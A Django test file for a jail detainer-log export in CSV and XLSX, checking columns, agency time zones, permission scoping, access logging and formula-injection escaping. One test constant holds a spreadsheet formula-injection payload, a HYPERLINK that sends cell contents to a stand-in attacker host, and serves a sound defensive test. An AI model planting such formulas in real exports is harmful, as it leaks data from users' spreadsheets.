"""Detainer log export (CSV streamed, XLSX): columns, E1, agency-local periods, scope (A1), queries, access log."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import time_machine
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.html import escape
from guardian.shortcuts import assign_perm
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from pypdf import PdfReader

from compliance.core import access
from compliance.core.models import AccessLog, Report
from compliance.core.roles import Role
from compliance.core.spreadsheets import workbook_bytes, xlsx_value_cell
from compliance.reports.services import report_request
from incidents.detainer_log.export import EXPORT_COLUMNS, XLSX_COLUMNS
from incidents.detainers import services
from incidents.detainers.models import Detainer
from tests.base import BaseTestCase, sign_in
from tests.compliance.helpers import make_officer
from tests.incidents.helpers import make_detainer

URL = reverse("incidents:detainer_export")
HOSTILE_CHARGE = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")'


def csv_rows(response) -> list[dict]:
    """The streamed CSV as dicts (byte order mark removed)."""
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def xlsx_rows(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows()]


class DetainerExportTests(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        actor = cls.supervisor_a
        # 09:00 CST on 5 Jan; released 3 hours before the hold deadline.
        cls.formula = make_detainer(
            cls.agency_a,
            actor=actor,
            number=1,
            underlying_charge=HOSTILE_CHARGE,
            a_number="A123456789",
            subject_country_of_citizenship="MX",
            offense_level=2,
            form_version="I-247A (02/17)",
            would_be_released_at=datetime(2026, 1, 6, 12, 0, tzinfo=UTC),
        )
        services.detainer_record_outcome(
            detainer=cls.formula,
            actor=actor,
            outcome=Detainer.Outcome.RELEASED,
            outcome_at=datetime(2026, 1, 8, 9, 0, tzinfo=UTC),  # deadline 2026-01-08 12:00 UTC
        )
        # Transferred 5 hours after its deadline: the late outcome opens a finding.
        cls.late = make_detainer(
            cls.agency_a, actor=actor, number=2, would_be_released_at=datetime(2026, 1, 6, 12, 0, tzinfo=UTC)
        )
        services.detainer_record_outcome(
            detainer=cls.late,
            actor=actor,
            outcome=Detainer.Outcome.TRANSFERRED,
            outcome_at=datetime(2026, 1, 8, 17, 0, tzinfo=UTC),
            explanation="ICE arrived late (invented).",
        )
        # Agency-local day boundaries: 31 Jan 23:30 CST is 1 Feb 05:30 UTC; 1 Feb 00:00 CST is 06:00 UTC.
        cls.last_evening = make_detainer(
            cls.agency_a, actor=actor, number=3, received_at=datetime(2026, 2, 1, 5, 30, tzinfo=UTC)
        )
        cls.next_midnight = make_detainer(
            cls.agency_a, actor=actor, number=4, received_at=datetime(2026, 2, 1, 6, 0, tzinfo=UTC)
        )
        # Agency B (Phoenix, UTC−7): 1 Feb 06:30 UTC is still 31 Jan 23:30 there.
        cls.birch = make_detainer(
            cls.agency_b,
            actor=cls.supervisor_b,
            number=5,
            booking_number="BK-BIRCH-OWN",
            received_at=datetime(2026, 2, 1, 6, 30, tzinfo=UTC),
        )

    def get(self, user, **params):
        sign_in(self.client, user)
        return self.client.get(URL, params)

    def by_booking(self, rows) -> dict[str, dict]:
        return {row["booking_number"]: row for row in rows}

    def test_csv_has_the_columns_and_the_detainers_values(self):
        response = self.get(self.supervisor_a, agency=str(self.agency_a.public_id))
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.streaming)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn('attachment; filename="detainer-log-TX-', response["Content-Disposition"])
        self.assertTrue({"private", "no-store"} <= {part.strip() for part in response["Cache-Control"].split(",")})
        rows = csv_rows(response)
        self.assertEqual(tuple(rows[0].keys()), EXPORT_COLUMNS)
        self.assertEqual([row["booking_number"] for row in rows], ["BK-00001", "BK-00002", "BK-00003", "BK-00004"])
        first = rows[0]
        self.assertEqual(first["agency"], "Alder County Sheriff's Office (TX)")
        self.assertEqual(first["subject_name"], "Testperson1, Alex")
        self.assertEqual(first["a_number"], "A123456789")
        self.assertEqual(first["country_of_citizenship"], "MX")
        self.assertEqual(first["offense_level"], "2")
        self.assertEqual((first["form"], first["form_version"]), ("I-247A", "I-247A (02/17)"))
        self.assertEqual(first["received"], "2026-01-05 09:00 CST")
        self.assertEqual(first["received_utc"], "2026-01-05T15:00:00Z")
        self.assertEqual(first["would_otherwise_be_released"], "2026-01-06 06:00 CST")
        self.assertEqual(first["hold_deadline"], "2026-01-08 06:00 CST")
        self.assertEqual((first["warrant_type"], first["warrant_signed"]), ("I-200", "yes"))
        self.assertEqual((first["outcome"], first["outcome_at"]), ("Released", "2026-01-08 03:00 CST"))
        # Never served on the subject (R4.5): no hold was authorized, and the rule says why.
        self.assertEqual((first["served_on_subject_at"], first["hold_authorized"]), ("", "no"))
        self.assertIn("R4.5", first["failing_rules"].split("; "))
        self.assertEqual(first["open_findings"], "0")
        late = rows[1]
        self.assertEqual(late["hours_after_deadline"], "5")
        self.assertEqual(late["open_findings"], "1")  # the late outcome's hold-deadline finding

    def test_case_E1_csv_neutralises_a_formula_charge_and_leaves_negative_numbers(self):
        first = csv_rows(self.get(self.supervisor_a))[0]
        self.assertEqual(first["charge"], "'" + HOSTILE_CHARGE)
        self.assertEqual(first["hours_after_deadline"], "-3")
        # The screen shows the charge as typed.
        sign_in(self.client, self.supervisor_a)
        page = self.client.get(reverse("incidents:detainer_detail", kwargs={"public_id": self.formula.public_id}))
        self.assertContains(page, "=HYPERLINK(")
        self.assertNotContains(page, "&#x27;=HYPERLINK(")

    def test_case_E1_xlsx_charge_is_a_neutralised_string_and_numbers_stay_numbers(self):
        response = self.get(self.supervisor_a, format="xlsx")
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
        self.assertIn(".xlsx", response["Content-Disposition"])
        rows = xlsx_rows(response)
        header = [cell.value for cell in rows[0]]
        self.assertEqual(tuple(header), XLSX_COLUMNS)
        first = dict(zip(header, rows[1], strict=True))
        self.assertEqual(first["charge"].value, "'" + HOSTILE_CHARGE)
        self.assertEqual(first["charge"].data_type, "s")
        self.assertEqual(first["hours_after_deadline"].value, -3)
        self.assertEqual(first["hours_after_deadline"].data_type, "n")
        self.assertEqual(first["offense_level"].value, 2)
        self.assertEqual(first["received_utc"].value, "2026-01-05T15:00:00Z")
        self.assertEqual(len(rows), 5)  # header + agency A's four

    def test_period_uses_the_agency_local_days(self):
        rows = csv_rows(self.get(self.supervisor_a, received_from="2026-01-31", received_to="2026-01-31"))
        self.assertEqual([row["booking_number"] for row in rows], ["BK-00003"])
        rows = csv_rows(self.get(self.supervisor_a, received_from="2026-02-01"))
        self.assertEqual([row["booking_number"] for row in rows], ["BK-00004"])
        rows = csv_rows(self.get(self.supervisor_a, received_to="2026-01-05"))
        self.assertEqual([row["booking_number"] for row in rows], ["BK-00001", "BK-00002"])

    def test_period_over_several_agencies_uses_each_agencys_own_midnight(self):
        rows = csv_rows(self.get(self.auditor, received_from="2026-01-31", received_to="2026-01-31"))
        self.assertEqual([row["booking_number"] for row in rows], ["BK-BIRCH-OWN", "BK-00003"])
        self.assertEqual(self.by_booking(rows)["BK-BIRCH-OWN"]["received"], "2026-01-31 23:30 MST")

    def test_outcome_filter(self):
        rows = csv_rows(self.get(self.supervisor_a, outcome=Detainer.Outcome.TRANSFERRED))
        self.assertEqual([row["booking_number"] for row in rows], ["BK-00002"])
        rows = csv_rows(self.get(self.supervisor_a, outcome=Detainer.Outcome.PENDING))
        self.assertEqual([row["booking_number"] for row in rows], ["BK-00003", "BK-00004"])

    def test_bad_filters_answer_400_naming_the_field(self):
        response = self.get(self.supervisor_a, received_from="2026-02-02", received_to="2026-02-01")
        self.assertEqual(response.status_code, 400)
        self.assertIn("received_from: The first day of the period is after its last day.", response.content.decode())
        self.assertEqual(self.get(self.supervisor_a, outcome="escaped").status_code, 400)
        self.assertEqual(self.get(self.supervisor_a, format="pdf").status_code, 400)

    def test_other_agency_answers_404(self):
        self.assertEqual(self.get(self.supervisor_a, agency=str(self.agency_b.public_id)).status_code, 404)
        self.assertEqual(self.get(self.supervisor_a, agency="not-a-uuid").status_code, 404)

    def test_no_export_permission_answers_404(self):
        for user in (self.staff_a, self.outsider):
            with self.subTest(user=user.username):
                self.assertEqual(self.get(user).status_code, 404)
        self.client.logout()
        self.assertEqual(self.client.get(URL).status_code, 302)  # to the sign-in page

    def test_it_is_access_logged_with_the_row_count(self):
        csv_rows(self.get(self.supervisor_a, agency=str(self.agency_a.public_id)))
        log = AccessLog.objects.get(action=AccessLog.Action.EXPORT)
        self.assertEqual((log.user, log.agency, log.object_count, log.path), (self.supervisor_a, self.agency_a, 4, URL))
        exported = len(xlsx_rows(self.get(self.auditor, outcome=Detainer.Outcome.PENDING, format="xlsx")))
        # Two agencies in one file: one row per agency with its own count, so each agency's auditors see it.
        logs = AccessLog.objects.filter(action=AccessLog.Action.EXPORT, user=self.auditor)
        per_agency = {log.agency: log.object_count for log in logs}
        self.assertEqual(set(per_agency), {self.agency_a, self.agency_b})
        self.assertEqual(sum(per_agency.values()), 3)
        self.assertEqual(exported - 1, 3)  # the file's data rows, under its header

    def test_the_list_page_offers_the_export_to_those_who_may_export(self):
        sign_in(self.client, self.supervisor_a)
        page = self.client.get(reverse("incidents:detainer_list"), {"outcome": "released"})
        self.assertContains(page, 'data-testid="detainer-export"')
        self.assertContains(page, f'action="{URL}"')
        self.assertContains(page, 'value="xlsx"')
        sign_in(self.client, self.staff_a)
        self.assertNotContains(self.client.get(reverse("incidents:detainer_list")), 'data-testid="detainer-export"')


class DetainerExportQueryCountTests(BaseTestCase):
    """The export's queries do not grow with rows: 5 and 50 detainers cost the same."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        for agency, actor, count in ((cls.agency_a, cls.supervisor_a, 50), (cls.agency_b, cls.supervisor_b, 5)):
            officer = make_officer(agency, 1)
            agreement = agency.agreements.first()
            for number in range(count):
                detainer = make_detainer(
                    agency,
                    actor=actor,
                    number=number,
                    handling_officer=officer,
                    agreement=agreement,
                    would_be_released_at=datetime(2026, 1, 6, tzinfo=UTC) + timedelta(hours=number),
                    # The officer has no required training set up, so is not authorized: recorded as it happened.
                    explanation="Recorded after the fact (invented).",
                )
                if number % 2:
                    services.detainer_record_outcome(
                        detainer=detainer,
                        actor=actor,
                        outcome=Detainer.Outcome.RELEASED,
                        outcome_at=datetime(2026, 1, 9, tzinfo=UTC),
                        explanation="Released late (invented).",
                    )

    def export(self, user, agency, fmt):
        sign_in(self.client, user)
        response = self.client.get(URL, {"agency": str(agency.public_id), "format": fmt})
        return b"".join(response.streaming_content)

    def test_query_count_is_the_same_for_5_and_50_rows(self):
        for fmt in ("csv", "xlsx"):
            with self.subTest(format=fmt):
                self.export(self.supervisor_b, self.agency_b, fmt)  # warm up session and content types
                self.export(self.supervisor_a, self.agency_a, fmt)
                with CaptureQueriesContext(connection) as few:
                    content = self.export(self.supervisor_b, self.agency_b, fmt)
                with self.assertNumQueries(len(few.captured_queries)):
                    many = self.export(self.supervisor_a, self.agency_a, fmt)
                self.assertGreater(len(many), len(content))
                if fmt == "csv":
                    self.assertEqual(many.decode("utf-8").count("\r\n"), 51)  # header + 50 rows


class DetainerExportCaseA1Tests(BaseTestCase):
    """Case A1: a model-wide permission given by mistake never widens the export's agency scope."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        make_detainer(cls.agency_a, actor=cls.supervisor_a, number=1, booking_number="BK-ALDER-ONLY")
        make_detainer(cls.agency_b, actor=cls.supervisor_b, number=1, booking_number="BK-BIRCH-OWN")
        wrong = Permission.objects.filter(
            content_type__app_label="compliance", codename__in=access.ALL_PERMS
        ) | Permission.objects.filter(content_type__app_label="incidents", content_type__model="detainer")
        Group.objects.get(name=Role.STAFF).permissions.add(*wrong)
        # The staff user of agency B may export in agency B (an object permission), nowhere else.
        assign_perm(f"compliance.{access.EXPORT}", cls.staff_b, cls.agency_b)

    def test_case_A1_detainer_export_has_only_agency_b_rows(self):
        self.assertTrue(self.staff_b.has_perm("incidents.view_detainer"))
        self.assertTrue(self.staff_b.has_perm(f"compliance.{access.EXPORT}"))
        sign_in(self.client, self.staff_b)
        for fmt in ("csv", "xlsx"):
            with self.subTest(format=fmt):
                content = b"".join(self.client.get(URL, {"format": fmt}).streaming_content)
                if fmt == "csv":
                    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8")[1:])))
                    bookings = [row["booking_number"] for row in rows]
                else:
                    sheet = load_workbook(io.BytesIO(content)).active
                    bookings = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
                self.assertEqual(bookings, ["BK-BIRCH-OWN"])
        self.assertEqual(self.client.get(URL, {"agency": str(self.agency_a.public_id)}).status_code, 404)
        # Another staff user of the same group, without the export object permission, exports nothing.
        sign_in(self.client, self.staff_a)
        self.assertEqual(self.client.get(URL).status_code, 404)


#: Case E1: every formula prefix (``=``, ``+``, ``-``, ``@``, tab, carriage return), one charge each.
E1_CHARGES = ("+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", '=HYPERLINK("x")')


class DetainerExportCaseE1PrefixTests(BaseTestCase):
    """Case E1 for each formula prefix: quoted in CSV and XLSX, original on the screen and in the PDF."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.detainers = {}
        for number, charge in enumerate(E1_CHARGES, start=20):
            cls.detainers[charge] = make_detainer(
                cls.agency_a,
                actor=cls.supervisor_a,
                number=number,
                underlying_charge=charge,
                would_be_released_at=datetime(2026, 1, 6, 12, 0, tzinfo=UTC),  # deadline 2026-01-08 12:00 UTC
            )
        # Released 3 hours before the deadline: hours_after_deadline is the number -3.
        services.detainer_record_outcome(
            detainer=cls.detainers["-2+3"],
            actor=cls.supervisor_a,
            outcome=Detainer.Outcome.RELEASED,
            outcome_at=datetime(2026, 1, 8, 9, 0, tzinfo=UTC),
        )

    def export(self, fmt):
        sign_in(self.client, self.supervisor_a)
        return self.client.get(URL, {"agency": str(self.agency_a.public_id), "format": fmt})

    def test_case_E1_csv_quotes_every_formula_prefix(self):
        rows = {row["booking_number"]: row for row in csv_rows(self.export("csv"))}
        self.assertEqual(len(rows), len(E1_CHARGES))
        for charge, detainer in self.detainers.items():
            with self.subTest(charge=charge):
                self.assertEqual(rows[detainer.booking_number]["charge"], "'" + charge)
        released = rows[self.detainers["-2+3"].booking_number]
        self.assertEqual(released["hours_after_deadline"], "-3")  # a number: not quoted
        self.assertEqual(rows[self.detainers["+1+1"].booking_number]["hours_after_deadline"], "")  # pending

    def test_case_E1_xlsx_quotes_every_formula_prefix_as_text_and_keeps_numbers(self):
        rows = xlsx_rows(self.export("xlsx"))
        header = [cell.value for cell in rows[0]]
        by_booking = {}
        for row in rows[1:]:
            values = dict(zip(header, row, strict=True))
            by_booking[values["booking_number"].value] = values
        self.assertEqual(len(by_booking), len(E1_CHARGES))
        for charge, detainer in self.detainers.items():
            with self.subTest(charge=charge):
                cell = by_booking[detainer.booking_number]["charge"]
                self.assertEqual(cell.data_type, "s")
                # XML normalises a carriage return to a line feed on reading; the leading ' is what matters.
                self.assertEqual(cell.value, "'" + charge.replace("\r", "\n"))
        hours = by_booking[self.detainers["-2+3"].booking_number]["hours_after_deadline"]
        self.assertEqual((hours.value, hours.data_type), (-3, "n"))

    def test_case_E1_the_detainer_page_shows_the_charge_as_typed(self):
        sign_in(self.client, self.supervisor_a)
        for charge, detainer in self.detainers.items():
            with self.subTest(charge=charge):
                url = reverse("incidents:detainer_detail", kwargs={"public_id": detainer.public_id})
                page = self.client.get(url)
                self.assertContains(page, f"<dd>{escape(charge)}</dd>", html=False)
                self.assertNotContains(page, escape("'" + charge))

    @time_machine.travel(datetime(2026, 1, 20, 18, 0, tzinfo=UTC), tick=False)
    def test_case_E1_the_detainer_log_pdf_shows_the_charge_as_typed(self):
        with self.captureOnCommitCallbacks(execute=True):
            report = report_request(
                actor=self.supervisor_a, agency=self.agency_a, kind=Report.Kind.DETAINER_LOG, as_of=date(2026, 1, 20)
            )
        report.refresh_from_db()
        self.assertEqual(report.status, Report.Status.READY, report.error)
        with report.file.open("rb") as handle:
            pages = [page.extract_text() for page in PdfReader(io.BytesIO(handle.read())).pages]
        # Cells wrap and tabs/carriage returns print as spaces: compare without whitespace.
        text = re.sub(r"\s+", "", "".join(pages))
        for charge, detainer in self.detainers.items():
            with self.subTest(charge=charge):
                shown = re.sub(r"\s+", "", charge)
                self.assertNotIn(f"·'{shown}", text)
                # The log's one line per detainer: "booking subject · charge" (the dense layout).
                self.assertRegex(text, re.escape(detainer.booking_number) + r"[^·]*·" + re.escape(shown))


class DetainerExportXlsxDateTimeTests(BaseTestCase):
    """XLSX datetimes are real Excel date-time cells in the agency's wall time; the CSV keeps the text form."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        # Chicago moves from CST (UTC−6) to CDT (UTC−5) on Sunday 8 March 2026, between release and deadline.
        cls.chicago = make_detainer(
            cls.agency_a,
            actor=cls.supervisor_a,
            number=30,
            underlying_charge="=1+1",
            received_at=datetime(2026, 3, 9, 15, 0, tzinfo=UTC),  # 10:00 CDT
            would_be_released_at=datetime(2026, 3, 7, 18, 0, tzinfo=UTC),  # 12:00 CST; deadline 18:00 UTC
        )
        services.detainer_record_outcome(
            detainer=cls.chicago,
            actor=cls.supervisor_a,
            outcome=Detainer.Outcome.RELEASED,
            outcome_at=datetime(2026, 3, 9, 20, 0, tzinfo=UTC),  # 15:00 CDT, 2 hours after the deadline
            explanation="Released late (invented).",
        )
        # Phoenix keeps MST (UTC−7) all year.
        cls.phoenix = make_detainer(
            cls.agency_b,
            actor=cls.supervisor_b,
            number=31,
            booking_number="BK-BIRCH-DST",
            received_at=datetime(2026, 3, 9, 15, 0, tzinfo=UTC),  # 08:00 MST
        )

    def export(self, user, fmt, **params):
        sign_in(self.client, user)
        return self.client.get(URL, {"format": fmt, **params})

    def xlsx_by_booking(self, response) -> dict[str, dict]:
        rows = xlsx_rows(response)
        header = [cell.value for cell in rows[0]]
        self.assertEqual(tuple(header), XLSX_COLUMNS)
        return {row[1].value: dict(zip(header, row, strict=True)) for row in rows[1:]}

    def test_xlsx_header_names_the_agency_local_time_and_the_zone(self):
        header = [cell.value for cell in xlsx_rows(self.export(self.supervisor_a, "xlsx"))[0]]
        for name in (
            "received (agency local time)",
            "would_otherwise_be_released (agency local time)",
            "hold_deadline (agency local time)",
            "served_on_subject_at (agency local time)",
            "ice_notified_at (agency local time)",
            "outcome_at (agency local time)",
        ):
            self.assertIn(name, header)
        self.assertEqual(header[header.index("received (agency local time)") - 1], "time_zone")
        self.assertEqual(header[header.index("received (agency local time)") + 1], "received_utc")
        self.assertNotIn("received", header)

    def test_xlsx_datetimes_are_date_cells_in_the_agency_wall_time_across_the_dst_change(self):
        row = self.xlsx_by_booking(self.export(self.supervisor_a, "xlsx"))[self.chicago.booking_number]
        expected = {
            "received (agency local time)": datetime(2026, 3, 9, 10, 0),  # 15:00 UTC, CDT
            "would_otherwise_be_released (agency local time)": datetime(2026, 3, 7, 12, 0),  # 18:00 UTC, CST
            "hold_deadline (agency local time)": datetime(2026, 3, 9, 13, 0),  # 48 real hours later, CDT
            "outcome_at (agency local time)": datetime(2026, 3, 9, 15, 0),
        }
        for name, wall_time in expected.items():
            with self.subTest(column=name):
                cell = row[name]
                self.assertIsInstance(cell.value, datetime)
                self.assertEqual(cell.value, wall_time)
                self.assertTrue(cell.is_date)
                self.assertEqual(cell.number_format, "yyyy-mm-dd hh:mm")
        self.assertIsNone(row["served_on_subject_at (agency local time)"].value)  # never served: empty cell
        self.assertEqual(row["time_zone"].value, "America/Chicago")
        self.assertEqual((row["received_utc"].value, row["received_utc"].data_type), ("2026-03-09T15:00:00Z", "s"))
        self.assertEqual((row["hours_after_deadline"].value, row["hours_after_deadline"].data_type), (2, "n"))

    def test_xlsx_each_row_is_in_its_own_agencys_wall_time(self):
        rows = self.xlsx_by_booking(self.export(self.auditor, "xlsx"))
        chicago, phoenix = rows[self.chicago.booking_number], rows["BK-BIRCH-DST"]
        self.assertEqual(chicago["received (agency local time)"].value, datetime(2026, 3, 9, 10, 0))
        self.assertEqual(phoenix["received (agency local time)"].value, datetime(2026, 3, 9, 8, 0))
        self.assertEqual(phoenix["time_zone"].value, "America/Phoenix")
        self.assertEqual(phoenix["received_utc"].value, chicago["received_utc"].value)  # the same instant

    def test_csv_keeps_the_agency_local_text_and_its_columns(self):
        rows = csv_rows(self.export(self.supervisor_a, "csv"))
        self.assertEqual(tuple(rows[0].keys()), EXPORT_COLUMNS)
        (row,) = [row for row in rows if row["booking_number"] == self.chicago.booking_number]
        self.assertEqual(row["received"], "2026-03-09 10:00 CDT")
        self.assertEqual(row["received_utc"], "2026-03-09T15:00:00Z")
        self.assertEqual(row["would_otherwise_be_released"], "2026-03-07 12:00 CST")
        self.assertEqual(row["hold_deadline"], "2026-03-09 13:00 CDT")
        self.assertEqual(row["outcome_at"], "2026-03-09 15:00 CDT")
        self.assertEqual(row["served_on_subject_at"], "")

    def test_case_E1_xlsx_text_cells_are_still_neutralised_beside_date_cells(self):
        row = self.xlsx_by_booking(self.export(self.supervisor_a, "xlsx"))[self.chicago.booking_number]
        self.assertEqual((row["charge"].value, row["charge"].data_type), ("'=1+1", "s"))
        received = row["received (agency local time)"]
        self.assertEqual((received.data_type, received.value), ("d", datetime(2026, 3, 9, 10, 0)))  # not quoted
        self.assertEqual(csv_rows(self.export(self.supervisor_a, "csv"))[0]["charge"], "'=1+1")

    def test_workbook_writes_dates_as_dates_and_refuses_aware_datetimes(self):
        content = workbook_bytes([("S", ("day", "at"), [(date(2026, 3, 9), datetime(2026, 3, 9, 10, 0))])])
        day, at = next(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
        self.assertEqual((day.value, day.number_format), (datetime(2026, 3, 9, 0, 0), "yyyy-mm-dd"))
        self.assertEqual((at.value, at.number_format), (datetime(2026, 3, 9, 10, 0), "yyyy-mm-dd hh:mm"))
        sheet = Workbook(write_only=True).create_sheet("S")
        with self.assertRaisesMessage(ValueError, "XLSX cells hold no time zone"):
            xlsx_value_cell(sheet, WriteOnlyCell, datetime(2026, 3, 9, 15, 0, tzinfo=UTC))
